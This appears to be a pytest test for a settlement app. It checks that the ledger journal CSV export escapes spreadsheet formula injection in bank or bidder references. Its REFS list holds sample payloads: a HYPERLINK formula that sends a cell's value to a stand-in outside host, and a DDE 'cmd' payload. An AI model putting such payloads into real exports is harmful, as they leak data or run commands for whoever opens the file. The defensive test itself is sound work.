"""What a bank or a bidder wrote does not run in the spreadsheet of whoever opens the journal."""

import csv
import io

import pytest
from httpx2 import ASGITransport, AsyncClient

from pavilion import main
from pavilion.accounts.rules import Role
from pavilion.kernel.db import create_engine
from pavilion.settings import Settings
from pavilion.settlement import ledger
from tests import make
from tests.make import NOON, PASSWORD

HOME = "http://pavilion.test"
REFS = [
    '=HYPERLINK("http://elsewhere.example?"&A1,"paid")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.fixture
async def house(sqlite_database_url, tmp_path):
    engine = create_engine(sqlite_database_url)
    app = main.build_house(Settings(environment="test", public_url=HOME, data_dir=tmp_path), engine, lambda: NOON)
    yield app
    await engine.dispose()


async def test_a_formula_in_a_reference_is_text_in_the_journals_table(house):
    async with house.state.sessions.begin() as session:
        await make.person(session, "tomas@pavilion.example", (Role.CASHIER,))
        for number, ref in enumerate([*REFS, "FT-1"]):
            moves = [ledger.Move("bank", 100), ledger.Move("buyer:1", -100)]
            await ledger.post(session, key=f"wire:{number}", moves=moves, currency="USD", ref=ref, by=None, at=NOON)
    async with AsyncClient(transport=ASGITransport(house), base_url=HOME, headers={"origin": HOME}) as tomas:
        await tomas.post("/sign-in", data={"email": "tomas@pavilion.example", "password": PASSWORD})
        told = await tomas.get("/staff/ledger/journal.csv")
    rows = list(csv.DictReader(io.StringIO(told.content.decode("utf-8-sig"), newline="")))
    assert [row["ref"] for row in rows[::2]] == [f"'{ref}" for ref in REFS] + ["FT-1"]
    assert {(row["debit_minor"], row["credit_minor"]) for row in rows} == {("100", "0"), ("0", "100")}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
